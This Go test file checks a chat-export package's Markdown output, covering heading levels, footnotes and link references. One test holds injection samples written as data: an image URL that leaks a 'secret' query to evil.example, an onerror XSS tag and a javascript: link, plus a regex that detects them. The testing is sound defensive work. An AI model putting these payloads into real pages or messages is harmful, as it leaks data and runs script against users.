package export_test

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"

	"kakoi/internal/chat/export"
)

// headings of a Markdown text as an ordinary reader sees them, by level.
func headings(source string, level int) []string {
	src := []byte(source)
	root := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote)).Parser().Parse(text.NewReader(src))
	var out []string
	_ = ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if h, ok := n.(*ast.Heading); ok && entering && h.Level == level {
			out = append(out, string(h.Lines().Value(src)))
		}
		return ast.WalkContinue, nil
	})
	return out
}

func TestMarkdownSpeakersAreTheOnlyHeadingsOfTheirLevel(t *testing.T) {
	for _, tt := range []struct{ name, answer string }{
		{"headings of the answer go below", "# 偽の発言者\n\n## 利用者 — 2026年11月22日(日) 14:05\n\n本文"},
		{"underlined headings too", "偽の発言者\n==========\n\n利用者\n---\n\n本文"},
		{"in a quote", "> 偽の発言者\n> ===\n"},
		{"an open fence does not swallow what follows", "```go\nfunc main() {"},
		{"nor a longer one", "````\n```\n"},
		{"nor one of tildes", "本文\n\n~~~\n# 見出し"},
		{"nor an open comment", "本文\n\n<!-- 注釈"},
		{"nor an open script", "<script>\n# 偽の発言者\n"},
		{"nor a closed one with headings in it", "<pre>\n# 偽の発言者\n</pre>"},
		{"nor an open formula", "$$\nx = 1\n"},
		{"nor a list", "- 項目\n\n  ```\n  中"},
		{"nor an indented code block", "    コード"},
		{"nor a footnote", "本文[^1]\n\n[^1]: 注"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			md := string(write(t, say(tt.answer, "次の答え"), export.FormatMarkdown))
			want := []string{"モデル — 2026年11月22日(日) 14:05", "モデル — 2026年11月22日(日) 14:05"}
			if got := headings(md, 2); !slices.Equal(got, want) {
				t.Errorf("level 2 headings %q, want %q in\n%s", got, want, md)
			}
			if got := headings(md, 1); !slices.Equal(got, []string{"題"}) {
				t.Errorf("level 1 headings %q", got)
			}
			if !strings.Contains(md, "\n\n次の答え\n") {
				t.Errorf("the next answer is not there in\n%s", md)
			}
		})
	}
}

func TestMarkdownHeadingsGoBelowTheSpeakers(t *testing.T) {
	for answer, want := range map[string]string{
		"# 一\n\n本文":         "\n### 一\n\n本文",
		"#### 四":            "\n###### 四",
		"###### 六":          "\n###### 六",
		"長い\n見出し\n===\n本文":  "\n### 長い 見出し\n本文",
		"二\n---":            "\n#### 二\n",
		"> 引用\n> ---\n> 本文": "\n> #### 引用\n> 本文",
		"#これは見出しではない":       "\n#これは見出しではない",
		"```\n# 注釈\n```":    "\n```\n# 注釈\n```",
	} {
		if md := string(write(t, say(answer), export.FormatMarkdown)); !strings.Contains(md, want) {
			t.Errorf("no %q in\n%s", want, md)
		}
	}
}

func TestMarkdownKeepsNotesAndReferencesApart(t *testing.T) {
	md := string(write(t, say(
		"一[^1] と [市][1] と [国]\n\n[^1]: 甲\n\n[1]: https://one.example/\n[国]: https://nation.example/",
		"二[^1] と [県][1] と `[^1]`\n\n[^1]: 乙\n\n[1]: https://two.example/",
	), export.FormatMarkdown))
	for _, want := range []string{"一[^1]", "[^1]: 甲", "二[^2-1]", "[^2-1]: 乙", "`[^1]`", "[市][1]", "[県](<https://two.example/>)"} {
		if !strings.Contains(md, want) {
			t.Errorf("%q is missing in\n%s", want, md)
		}
	}
	if n := strings.Count(md, "[1]: "); n != 1 {
		t.Errorf("[1] is defined %d times", n)
	}
}

func TestMarkdownLeadsNowhereByItself(t *testing.T) {
	md := string(write(t, say("![絵](https://evil.example/a.png?q=secret) <img src=x onerror=alert(1)> [押す](javascript:alert(1)) <br> <https://ok.example/>"), export.FormatMarkdown))
	var b strings.Builder
	if err := goldmark.Convert([]byte(md), &b); err != nil {
		t.Fatal(err)
	}
	if regexp.MustCompile(`<img|javascript:[^<]*">|<!-- raw HTML omitted -->.*alert`).MatchString(b.String()) {
		t.Errorf("it reaches out: %s", b.String())
	}
	if !strings.Contains(b.String(), `href="https://ok.example/"`) {
		t.Errorf("an ordinary link is lost: %s", b.String())
	}
}

func TestTypedTextKeepsItsLines(t *testing.T) {
	md := string(write(t, sample(t), export.FormatMarkdown))
	if !strings.Contains(md, "説明会の準備を教えてください。  \n  字下げ") {
		t.Errorf("line breaks are lost in\n%s", md)
	}
}
